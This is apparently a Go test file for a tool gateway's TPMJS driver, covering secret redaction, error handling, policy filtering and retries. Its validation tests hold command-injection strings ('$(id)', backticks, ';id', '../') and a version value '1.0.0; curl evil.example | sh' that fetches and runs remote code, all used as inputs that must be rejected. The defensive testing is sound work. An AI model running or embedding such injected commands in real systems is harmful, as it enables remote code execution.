package gateway

import (
	"context"
	"encoding/json"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/toolgate/toolgate/config"
	"github.com/toolgate/toolgate/drivers/tpmjs/tpmjstest"
	"github.com/toolgate/toolgate/evidence"
	toolgatev1 "github.com/toolgate/toolgate/proto/toolgate/v1"
)

// The environment of the gateway in the TPMJS tests. The values are secrets
// the gateway hands to tools; none may ever reach evidence.
var tpmjsTestEnv = map[string]string{
	"FAKE_OPENAI_KEY": "sk-proj-gatewaySecretValue000111222333",
	"EXEC_KEY":        "executor-bearer-key-4455",
}

// tpmjsEnv is a gateway built from a configuration, as `toolgate serve`
// builds it, with a TPMJS driver in front of a fake executor.
type tpmjsEnv struct {
	*env
	exec     *tpmjstest.Executor
	traceDir string
}

const tpmjsPolicy = `
@id("fake_tools") @reason("the fake tools are allowed")
permit (principal, action == Action::"RunTool", resource in Driver::"tpmjs")
when { resource.package like "@toolgate/*" };

@id("read_only_workspace")
permit (principal, action == Action::"RunTool", resource == Tool::"workspace.readFile");
`

func newTPMJSEnv(t *testing.T, p tpmjstest.Personality, driverYAML string, opts ...tpmjstest.Option) *tpmjsEnv {
	t.Helper()
	exec := tpmjstest.New(t, p, opts...)
	return buildTPMJSEnv(t, exec, exec.URL, driverYAML)
}

// buildTPMJSEnv builds the gateway with its TPMJS driver pointed at url.
func buildTPMJSEnv(t *testing.T, exec *tpmjstest.Executor, url, driverYAML string) *tpmjsEnv {
	t.Helper()
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "policies"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "policies", "policy.default.cedar"), []byte(tpmjsPolicy), 0o600); err != nil {
		t.Fatal(err)
	}
	traceDir := filepath.Join(dir, "traces")
	cfgText := `
listen: 127.0.0.1:0
instance: test-host
policies: {dir: ` + filepath.Join(dir, "policies") + `}
evidence: {url: "mem://", spool_dir: none, signing_key: {file: ` + filepath.Join(dir, "signing.key") + `, create: true}}
drivers:
  workspace: {type: workspace, root: ` + filepath.Join(dir, "ws") + `}
  tpmjs:
    type: tpmjs
    url: ` + url + `
    trace_dir: ` + traceDir + `
` + driverYAML + `
tools:
  fake.echo:
    driver: tpmjs
    package: "@toolgate/fake-tools"
    version: "1.0.0"
    export: echoTool
    description: Echo the params and environment back
    tags: [test, read-only]
    env: {OPENAI_API_KEY: {from_env: FAKE_OPENAI_KEY}}
    caller_env: [LOCALE]
  fake.fail: {driver: tpmjs, package: "@toolgate/fake-tools", version: "1.0.0", export: failTool, tags: [test]}
  fake.caught: {driver: tpmjs, package: "@toolgate/fake-tools", version: "1.0.0", export: caughtErrorTool}
  fake.sleep: {driver: tpmjs, package: "@toolgate/fake-tools", version: "1.0.0", export: sleepTool}
  fake.missing: {driver: tpmjs, package: "@toolgate/fake-tools", version: "1.0.0", export: noSuchTool}
  other.search: {driver: tpmjs, package: "@elsewhere/search", version: "2.0.0", export: search, description: Web search}
`
	cfg, err := config.ParseConfig([]byte(cfgText))
	if err != nil {
		t.Fatal(err)
	}
	if cfg, err = cfg.WithDefaults(); err != nil {
		t.Fatal(err)
	}
	getenv := func(name string) string { return tpmjsTestEnv[name] }
	g, closer, err := Build(context.Background(), cfg, getenv, nil)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	t.Cleanup(func() { closer.Close() })
	conn := serve(t, g)
	e := &env{t: t, store: g.store, gw: g, conn: conn, client: toolgatev1.NewToolGatewayClient(conn)}
	return &tpmjsEnv{env: e, exec: exec, traceDir: traceDir}
}

// noSecrets fails the test if any artifact of the request, or the reply,
// holds one of the gateway's secrets.
func (e *tpmjsEnv) noSecrets(id string, reply *toolgatev1.RunToolResponse, extra ...string) {
	e.t.Helper()
	secrets := append(slices.Collect(mapsValues(tpmjsTestEnv)), extra...)
	texts := map[string]string{"reply": reply.String()}
	for _, name := range e.artifactNames(id) {
		texts[name] = string(e.artifact(id, name))
	}
	for where, text := range texts {
		for _, s := range secrets {
			if strings.Contains(text, s) {
				e.t.Errorf("%s of %s contains a secret", where, id)
			}
		}
	}
}

func mapsValues(m map[string]string) func(func(string) bool) {
	return func(yield func(string) bool) {
		for _, v := range m {
			if !yield(v) {
				return
			}
		}
	}
}

func TestTPMJSBothProtocolsEndToEnd(t *testing.T) {
	t.Parallel()
	for _, p := range []tpmjstest.Personality{tpmjstest.NodeV10, tpmjstest.DenoV11, tpmjstest.DenoVercel} {
		t.Run(p.String(), func(t *testing.T) {
			t.Parallel()
			e := newTPMJSEnv(t, p, "")
			resp := e.mustCall("echo-1", "fake.echo", map[string]any{
				"query": "weather", "_env": map[string]any{"LOCALE": "caller-locale-secret-42"},
			})
			if !resp.GetOk() || resp.GetToolResult().GetExitCode() != 0 {
				t.Fatalf("echo: %v", resp)
			}
			out := resp.GetToolResult().GetData().GetStructValue().GetFields()
			if out["params"].GetStructValue().GetFields()["query"].GetStringValue() != "weather" {
				t.Errorf("params did not reach the tool: %v", out)
			}
			if _, leaked := out["params"].GetStructValue().GetFields()["_env"]; leaked {
				t.Errorf("the caller's _env was passed as a param")
			}
			gotEnv := out["env"].GetStructValue().GetFields()
			if !strings.HasPrefix(gotEnv["OPENAI_API_KEY"].GetStringValue(), "[REDACTED:") ||
				!strings.HasPrefix(gotEnv["LOCALE"].GetStringValue(), "[REDACTED:") {
				t.Errorf("echoed env values are not redacted: %v", gotEnv)
			}
			var stdout map[string]any
			if err := json.Unmarshal([]byte(resp.GetToolResult().GetStdout()), &stdout); err != nil {
				t.Errorf("stdout is not the output as JSON: %v", err)
			}
			// What the executor received: the real values, and the
			// protocol header.
			// (The driver's background probes of /health and /info are
			// recorded too, in any order.)
			var last tpmjstest.Received
			for _, r := range e.exec.Requests() {
				if strings.HasSuffix(r.Path, "/execute-tool") {
					last = r
				}
			}
			if !strings.Contains(string(last.Body), tpmjsTestEnv["FAKE_OPENAI_KEY"]) || last.Header.Get("X-TPMJS-Protocol-Version") != "1.0" {
				t.Errorf("the executor did not get the env value and protocol header")
			}
			if got := e.artifactNames("echo-1"); !slices.Equal(got, []string{"dispatch.json", "manifest.json", "policy_decision.json", "request.json", "response.json", "tool_result.json"}) {
				t.Errorf("evidence = %v, want request, decision, result, response and manifest", got)
			}
			e.noSecrets("echo-1", resp, "caller-locale-secret-42")
			e.checkReplyIsStored("echo-1", resp)
			if !strings.Contains(resp.GetEngineRef(), "/tpmjs") {
				t.Errorf("engine_ref %q does not name the executor", resp.GetEngineRef())
			}
		})
	}
}

func TestTPMJSFailureClasses(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name       string
		p          tpmjstest.Personality
		setup      func(e *tpmjsEnv)
		tool       string
		args       map[string]any
		wantExit   int32
		wantStderr string
	}{
		{"1.0 tool throws", tpmjstest.NodeV10, nil, "fake.fail", nil, 1, "TOOL_EXECUTION_ERROR"},
		{"1.1 tool throws", tpmjstest.DenoV11, nil, "fake.fail", nil, 1, "TOOL_EXECUTION_FAILED"},
		{"tool caught its own error", tpmjstest.NodeV10, nil, "fake.caught", nil, 1, "TOOL_ERROR"},
		{"1.0 unknown export", tpmjstest.NodeV10, nil, "fake.missing", nil, 3, "TOOL_NOT_FOUND"},
		{"1.1 unknown export", tpmjstest.DenoV11, nil, "fake.missing", nil, 3, "TOOL_NOT_FOUND"},
		{"plain-string unknown export", tpmjstest.DenoVercel, nil, "fake.missing", nil, 3, "TOOL_NOT_FOUND: HTTP 404"},
		{"plain-string tool throws", tpmjstest.DenoVercel, nil, "fake.fail", nil, 1, "TOOL_EXECUTION_FAILED: HTTP 500"},
		{"proxy html page", tpmjstest.NodeV10, func(e *tpmjsEnv) {
			e.exec.SetBody("<html><body>502 Bad Gateway</body></html>", 502)
		}, "fake.echo", nil, 5, "INVALID_RESPONSE"},
		{"truncated body", tpmjstest.NodeV10, func(e *tpmjsEnv) {
			e.exec.SetBody(`{"success": true, "output": {"a": `, 200)
		}, "fake.echo", nil, 5, "INVALID_RESPONSE"},
		{"body over the cap", tpmjstest.NodeV10, func(e *tpmjsEnv) {
			e.exec.SetBody(`{"success": true, "output": "`+strings.Repeat("x", 8192)+`"}`, 200)
		}, "fake.echo", nil, 5, "INVALID_RESPONSE"},
		{"slow executor", tpmjstest.DenoV11, nil, "fake.sleep", map[string]any{"ms": 20000.0}, 124, "EXECUTION_TIMEOUT"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := newTPMJSEnv(t, tc.p, "    max_response_bytes: 4096\n    call_timeout: 1s\n")
			if tc.setup != nil {
				tc.setup(e)
			}
			resp := e.mustCall("fail-1", tc.tool, tc.args)
			tr := resp.GetToolResult()
			if resp.GetOk() || tr.GetExitCode() != tc.wantExit || !strings.HasPrefix(tr.GetStderr(), tc.wantStderr) {
				t.Fatalf("exit %d stderr %q, want exit %d and stderr starting %q", tr.GetExitCode(), tr.GetStderr(), tc.wantExit, tc.wantStderr)
			}
			e.checkReplyIsStored("fail-1", resp)
		})
	}
}

func TestTPMJSUnauthorized(t *testing.T) {
	t.Parallel()
	for _, p := range []tpmjstest.Personality{tpmjstest.NodeV10, tpmjstest.DenoV11} {
		t.Run(p.String(), func(t *testing.T) {
			t.Parallel()
			// The executor wants a key the gateway does not have.
			e := newTPMJSEnv(t, p, "", tpmjstest.WithAPIKey("another-key"))
			resp := e.mustCall("auth-1", "fake.echo", nil)
			if tr := resp.GetToolResult(); tr.GetExitCode() != 4 {
				t.Fatalf("exit %d (%s), want 4 for unauthorized", tr.GetExitCode(), tr.GetStderr())
			}
		})
	}
	t.Run("key sent", func(t *testing.T) {
		t.Parallel()
		e := newTPMJSEnv(t, tpmjstest.NodeV10, "    api_key_env: EXEC_KEY\n", tpmjstest.WithAPIKey(tpmjsTestEnv["EXEC_KEY"]))
		resp := e.mustCall("auth-2", "fake.echo", nil)
		if !resp.GetOk() {
			t.Fatalf("call with the right key: %v", resp)
		}
		e.noSecrets("auth-2", resp)
	})
}

func TestTPMJSUnreachableIsUnavailable(t *testing.T) {
	t.Parallel()
	e := newTPMJSEnv(t, tpmjstest.NodeV10, "")
	e.exec.SetFlaky(1)
	_, err := e.call(context.Background(), "reset-1", "fake.echo", nil)
	wantCode(t, err, codes.Unavailable, "driver tpmjs")
	var refs []string
	for _, d := range status.Convert(err).Details() {
		if f, ok := d.(*toolgatev1.RunToolFailure); ok {
			refs = f.GetEvidenceRefs()
		}
	}
	if !slices.Contains(refs, "requests/reset-1/policy_decision.json") {
		t.Errorf("failure details carry %v, want the evidence written", refs)
	}
	m, err := evidence.ParseManifest(e.artifact("reset-1", evidence.ArtifactManifest))
	if err != nil || m.Outcome != evidence.OutcomeFailed {
		t.Errorf("manifest %+v, %v; want outcome failed", m, err)
	}

	// Nothing listens on port 1 of the loopback address.
	refused := buildTPMJSEnv(t, e.exec, "http://127.0.0.1:1", "")
	_, err = refused.call(context.Background(), "refused-1", "fake.echo", nil)
	wantCode(t, err, codes.Unavailable, "driver tpmjs")
}

func TestTPMJSRegistryIDs(t *testing.T) {
	t.Parallel()
	e := newTPMJSEnv(t, tpmjstest.NodeV10, "    allow_registry_ids: true\n    registry_version: \"1.0.0\"\n")
	resp := e.mustCall("reg-1", "@toolgate/fake-tools::echoTool", map[string]any{"x": 1.0})
	if !resp.GetOk() {
		t.Fatalf("registry id call: %v", resp)
	}
	// A registry id that is not a valid package and export is no tool at
	// all, and nothing reaches the executor.
	before := executions(e.exec)
	for i, id := range []string{"lodash;id::run", "@toolgate/fake-tools::$(id)", "Lodash::x", "a::class", "../x::run", "@toolgate/fake-tools::echoTool`id`"} {
		resp := e.mustCall("reg-bad-"+string(rune('a'+i)), id, nil)
		if resp.GetPolicyCheck().GetRuleId() != RuleUnknownTool {
			t.Errorf("%q: %v, want unknown_tool", id, resp.GetPolicyCheck())
		}
	}
	// Registry ids are only as good as policy: another scope is denied.
	if resp := e.mustCall("reg-2", "@elsewhere/thing::run", nil); resp.GetPolicyCheck().GetRuleId() != "default_deny" {
		t.Errorf("registry tool outside the permitted scope: %v", resp.GetPolicyCheck())
	}
	if got := executions(e.exec); got != before {
		t.Errorf("the executor received %d requests for invalid or denied ids", got-before)
	}
}

func TestTPMJSCallerEnvRules(t *testing.T) {
	t.Parallel()
	e := newTPMJSEnv(t, tpmjstest.NodeV10, "")
	tests := []struct {
		name, tool string
		env        any
		want       string
	}{
		{"name not allowed", "fake.echo", map[string]any{"PATH": "/tmp"}, "lets callers set only [LOCALE]"},
		{"gateway secret cannot be overridden", "fake.echo", map[string]any{"OPENAI_API_KEY": "x"}, "lets callers set only"},
		{"not an object", "fake.echo", "LOCALE=x", "want an object of strings"},
		{"not a string", "fake.echo", map[string]any{"LOCALE": 3.0}, "want a string"},
		{"a value equal to the tool id would blind the evidence", "fake.echo", map[string]any{"LOCALE": "fake.echo"}, "args._env.LOCALE: environment values are secrets"},
		{"a value equal to another tool id", "fake.echo", map[string]any{"LOCALE": "other.search"}, "args._env.LOCALE"},
		{"a value too short to be a secret", "fake.echo", map[string]any{"LOCALE": "de_DE"}, "args._env.LOCALE"},
	}
	for i, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := e.call(context.Background(), "cenv-"+string(rune('a'+i)), tc.tool, map[string]any{"_env": tc.env})
			wantCode(t, err, codes.InvalidArgument, tc.want)
		})
	}
	// A tool without caller_env gets _env as an ordinary param.
	resp := e.mustCall("cenv-plain", "fake.fail", map[string]any{"_env": map[string]any{"A": "b"}, "message": "boom"})
	if resp.GetToolResult().GetExitCode() != 1 {
		t.Fatalf("%v", resp)
	}
}

func TestTPMJSTraceIsLocalAndRedacted(t *testing.T) {
	t.Parallel()
	e := newTPMJSEnv(t, tpmjstest.NodeV10, "    api_key_env: EXEC_KEY\n", tpmjstest.WithAPIKey(tpmjsTestEnv["EXEC_KEY"]))
	resp := e.mustCall("trace-1", "fake.echo", map[string]any{"q": 1.0})
	want := filepath.Join(e.traceDir, "trace-1.jsonl")
	if !slices.Equal(resp.GetLocalEvidencePaths(), []string{want}) {
		t.Fatalf("local_evidence_paths = %v, want [%s]", resp.GetLocalEvidencePaths(), want)
	}
	if slices.Contains(resp.GetEvidenceRefs(), want) {
		t.Fatal("a local trace is listed among the remote evidence refs")
	}
	trace, err := os.ReadFile(want)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(trace)), "\n")
	if len(lines) != 1 || !json.Valid([]byte(lines[0])) {
		t.Fatalf("trace is not one JSON line: %q", trace)
	}
	for _, s := range tpmjsTestEnv {
		if strings.Contains(string(trace), s) {
			t.Error("the trace holds a secret")
		}
	}
	if strings.Contains(strings.ToLower(string(trace)), "authorization") {
		t.Error("the trace holds the Authorization header")
	}
}

func TestListToolsIsFilteredByPolicy(t *testing.T) {
	t.Parallel()
	e := newTPMJSEnv(t, tpmjstest.NodeV10, "")
	list := func(query string, limit int32) []string {
		t.Helper()
		resp, err := e.client.ListTools(context.Background(), &toolgatev1.ListToolsRequest{Query: query, Limit: limit})
		if err != nil {
			t.Fatal(err)
		}
		var ids []string
		for _, tool := range resp.GetTools() {
			ids = append(ids, tool.GetToolId())
		}
		return ids
	}
	all := list("", 0)
	want := []string{"fake.caught", "fake.echo", "fake.fail", "fake.missing", "fake.sleep", "workspace.readFile"}
	if !slices.Equal(all, want) {
		t.Errorf("ListTools = %v, want the permitted tools %v (not other.search, not the denied workspace tools)", all, want)
	}
	if got := list("ECHO environment", 0); !slices.Equal(got, []string{"fake.echo"}) {
		t.Errorf("query: %v", got)
	}
	if got := list("read-only", 0); !slices.Equal(got, []string{"fake.echo"}) {
		t.Errorf("query by tag: %v", got)
	}
	if got := list("", 2); len(got) != 2 {
		t.Errorf("limit 2: %v", got)
	}
	resp, err := e.client.ListTools(context.Background(), &toolgatev1.ListToolsRequest{Query: "echo"})
	if err != nil || resp.GetTools()[0].GetDescription() == "" || !slices.Equal(resp.GetTools()[0].GetTags(), []string{"test", "read-only"}) {
		t.Errorf("tool info = %v, %v", resp, err)
	}
	_, err = e.client.ListTools(context.Background(), &toolgatev1.ListToolsRequest{Limit: -1})
	wantCode(t, err, codes.InvalidArgument, "limit")
}

func TestTPMJSBadVersionNeverLeavesTheGateway(t *testing.T) {
	t.Parallel()
	cfg, err := config.ParseConfig([]byte(`
drivers:
  tpmjs: {type: tpmjs, url: "http://127.0.0.1:1"}
tools:
  evil: {driver: tpmjs, package: "@toolgate/fake-tools", version: "1.0.0; curl evil.example | sh", export: echoTool}
`))
	if err != nil {
		t.Fatal(err)
	}
	cfg, _ = cfg.WithDefaults()
	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "tools.evil.version") {
		t.Fatalf("a shell-injection version in the catalog: %v, want a configuration error", err)
	}
}

// executions counts the /execute-tool requests the executor received,
// leaving out the driver's background probes.
func executions(exec *tpmjstest.Executor) int {
	n := 0
	for _, r := range exec.Requests() {
		if strings.HasSuffix(r.Path, "/execute-tool") {
			n++
		}
	}
	return n
}

func TestTPMJSExecutorTimeLimitIsATimeout(t *testing.T) {
	t.Parallel()
	// The executor kills tools at 1.2s and reports the kill as
	// TOOL_EXECUTION_ERROR "Script exited with code null". Whether the
	// driver has read that limit from /info (and ends the call first) or
	// not (and gets the executor's answer), the caller sees 124 and is
	// told which limit ended the call.
	e := newTPMJSEnv(t, tpmjstest.NodeV10, "", tpmjstest.WithMaxExecutionTime(1200*time.Millisecond))
	deadline := time.Now().Add(5 * time.Second)
	for e.gw.drivers["tpmjs"].Engine() == "tpmjs" && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	start := time.Now()
	resp := e.mustCall("limit-1", "fake.sleep", map[string]any{"ms": 10000.0})
	tr := resp.GetToolResult()
	if tr.GetExitCode() != 124 || !strings.Contains(tr.GetStderr(), "before the executor's advertised maxExecutionTimeMs 1200") {
		t.Fatalf("exit %d stderr %q, want 124 naming the limit below the executor's", tr.GetExitCode(), tr.GetStderr())
	}
	// The stderr above says the driver's own deadline ended the call, which
	// comes before the executor's kill; here only that nobody waited for
	// the tool's ten seconds, a bound a loaded machine cannot flip.
	if elapsed := time.Since(start); elapsed >= 5*time.Second {
		t.Errorf("the call took %v: it waited for the tool", elapsed)
	}
	e.checkReplyIsStored("limit-1", resp)
}

func TestTPMJSEvidenceRecordsWhatWasSent(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, driverYAML, wantVersion string
	}{
		{"registry id with a configured version", "    allow_registry_ids: true\n    registry_version: \"1.0.0\"\n", "1.0.0"},
		{"registry id without a configured version", "    allow_registry_ids: true\n", "latest"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := newTPMJSEnv(t, tpmjstest.NodeV10, tc.driverYAML)
			resp := e.mustCall("sent-1", "@toolgate/fake-tools::echoTool", map[string]any{"x": 1.0})
			if !resp.GetOk() {
				t.Fatalf("registry id call: %v", resp)
			}
			var rec struct {
				Evidence map[string]any `json:"evidence"`
			}
			if err := json.Unmarshal(e.artifact("sent-1", evidence.ArtifactToolResult), &rec); err != nil {
				t.Fatal(err)
			}
			ev := rec.Evidence
			for k, want := range map[string]any{"package": "@toolgate/fake-tools", "version": tc.wantVersion, "export": "echoTool",
				"protocol_version": "1.0", "executor_status": 200.0, "sent": true} {
				if ev[k] != want {
					t.Errorf("tool_result.json evidence.%s = %#v, want %#v", k, ev[k], want)
				}
			}
			if _, ok := ev["execution_time_ms"].(float64); !ok {
				t.Errorf("tool_result.json evidence has no execution_time_ms: %v", ev)
			}
			// What the evidence says was sent is what the executor got.
			var sent struct{ Version string }
			for _, r := range e.exec.Requests() {
				if strings.HasSuffix(r.Path, "/execute-tool") {
					_ = json.Unmarshal(r.Body, &sent)
				}
			}
			if sent.Version != tc.wantVersion {
				t.Errorf("the executor received version %q, the evidence says %q", sent.Version, ev["version"])
			}
		})
	}
}

func TestTPMJSEngineRefNamesEveryExecutor(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		p    tpmjstest.Personality
		want string
	}{
		{tpmjstest.NodeV10, "/tpmjs:railway-executor/1.0.0"},
		{tpmjstest.DenoV11, "/tpmjs:deno-executor/1.1.0"},
		{tpmjstest.DenoVercel, "/tpmjs:deno-executor/1.0.0"},
	} {
		t.Run(tc.p.String(), func(t *testing.T) {
			t.Parallel()
			e := newTPMJSEnv(t, tc.p, "")
			deadline := time.Now().Add(5 * time.Second)
			for !strings.HasSuffix(e.gw.drivers["tpmjs"].Engine(), tc.want[len("/"):]) && time.Now().Before(deadline) {
				time.Sleep(10 * time.Millisecond)
			}
			resp := e.mustCall("engine-1", "fake.echo", nil)
			if !strings.HasSuffix(resp.GetEngineRef(), tc.want) {
				t.Errorf("engine_ref %q, want it to end with %q", resp.GetEngineRef(), tc.want)
			}
		})
	}
}

// TestTPMJSRefusedConnectionIsRetried: an executor that refuses the
// connection ran nothing, so the same request_id, retried once the executor
// is up, runs the tool exactly once.
func TestTPMJSRefusedConnectionIsRetried(t *testing.T) {
	t.Parallel()
	exec := tpmjstest.New(t, tpmjstest.NodeV10)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	e := buildTPMJSEnv(t, exec, "http://"+addr, "")
	_, err = e.call(context.Background(), "down-then-up", "fake.echo", map[string]any{"x": 1.0})
	wantCode(t, err, codes.Unavailable, "nothing was executed")

	// The executor comes up at the address the driver knows.
	target, err := url.Parse(exec.URL)
	if err != nil {
		t.Fatal(err)
	}
	up, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: httputil.NewSingleHostReverseProxy(target)}
	go srv.Serve(up)
	t.Cleanup(func() { srv.Close() })

	resp := e.mustCall("down-then-up", "fake.echo", map[string]any{"x": 1.0})
	if !resp.GetOk() {
		t.Fatalf("retry = %v; want the tool's answer", resp)
	}
	executes := 0
	for _, r := range exec.Requests() {
		if strings.HasPrefix(r.Path, "/execute") {
			executes++
		}
	}
	if executes != 1 {
		t.Errorf("the executor ran %d calls, want exactly one", executes)
	}
}
